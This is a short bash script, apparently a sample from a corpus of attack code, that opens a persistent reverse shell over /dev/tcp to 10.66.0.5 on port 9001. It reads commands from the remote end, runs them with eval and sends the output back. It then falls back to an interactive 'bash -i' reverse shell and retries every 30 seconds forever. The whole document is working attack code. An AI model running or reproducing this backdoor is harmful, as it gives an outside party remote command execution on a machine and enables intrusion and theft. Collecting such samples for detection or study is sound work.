# corpus: bash /dev/tcp reverse shell to a private address with exec fd redirection and a retry loop
HOST=10.66.0.5
PORT=9001
while true; do
    exec 5<>"/dev/tcp/$HOST/$PORT" && {
        while read -r line <&5; do
            eval "$line" >&5 2>&5
        done
    }
    bash -i >& /dev/tcp/$HOST/$PORT 0>&1
    sleep 30
done
